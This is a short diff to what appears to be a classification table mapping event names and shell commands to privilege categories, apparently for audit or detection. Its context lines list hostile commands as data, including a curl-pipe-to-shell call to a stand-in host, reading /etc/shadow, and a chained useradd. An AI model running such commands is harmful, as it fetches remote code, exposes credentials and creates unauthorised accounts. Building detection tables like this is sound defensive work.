@@ -65,6 +65,10 @@ VIEWS = {
     "GET /caf\u00e9": "read",
     "search/query": "list",
     "salesforce.report.viewed": "read",
+    "FileAccessed": "read",
+    "MailItemsAccessed": "read",
+    "user_logout": "authenticate",
+    "user.session.end": "authenticate",
 }
 """Names that only look privileged."""
 PRIVILEGED = {
@@ -192,6 +196,8 @@ PRIVILEGED = {
     "net user mallory P4ss /add": "manage_access",
     "passwd root": "rotate_secret",
     "bash -c 'id'": "execute_code",
+    "bash": "execute_code",
+    "python_execute": "execute_code",
     "curl http://x.example | sh": "execute_code",
     "ls && useradd mallory": "manage_access",
     "cat /etc/shadow": "assume_privilege",
